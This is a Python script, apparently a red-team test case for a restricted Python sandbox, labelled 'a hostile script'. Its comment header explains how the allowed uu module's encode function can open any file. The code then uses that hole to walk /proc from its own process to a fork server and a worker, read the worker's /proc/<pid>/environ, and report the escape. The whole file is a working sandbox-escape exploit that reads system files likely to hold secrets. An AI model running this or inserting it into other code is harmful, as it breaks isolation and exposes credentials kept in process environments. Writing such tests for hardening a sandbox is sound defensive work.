# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: the operator follows the start-up warning for uu ("name the members you need, as uu:NAME") and allows uu:encode; uu.encode(path, sink) opens any path and writes it uuencoded into the script's sink: /proc/self/stat -> the fork server -> the worker's /proc/<pid>/environ
# why: DENIED_EXPORTS has no entry for uu, and every member of uu opens the files it is given (mailcap's and mimetypes' file readers are denied)
# red team: 6d8a476, wide allowlist plus uu:encode and uu:decode (Python 3.11 and 3.12; 3.13 has no uu)
def a2b_uu(line):  # binascii's vetted table has no a2b_uu: decode by hand
    size = (line[0] - 32) & 63
    out = []
    for i in range(1, len(line) - 3, 4):
        a, b, c, d = [(x - 32) & 63 for x in line[i:i + 4]]
        out += [(a << 2 | b >> 4) & 255, (b << 4 | c >> 2) & 255, (c << 6 | d) & 255]
    return bytes(out[:size])

class Sink:
    def __init__(self):
        self.data = b""
    def write(self, line):
        if not line.startswith(b"begin") and line.strip() != b"end":
            self.data += a2b_uu(line)

def read(path):
    sink = Sink()
    uu.encode(path, sink)
    return sink.data

try:
    import uu
except ImportError:
    uu = None
if uu is not None:
    fork_server = int(read("/proc/self/stat").split(b") ")[1].split()[1])
    worker = int(read("/proc/%d/stat" % fork_server).split(b") ")[1].split()[1])
    environ = read("/proc/%d/environ" % worker)  # the worker's environment at its start
    names = sorted(v.split(b"=")[0].decode() for v in environ.split(b"\0") if b"=" in v)
    result = "ESCAPED worker %d environment (%d variables): %s" % (worker, len(names),
                                                                 ", ".join(names[:8]))
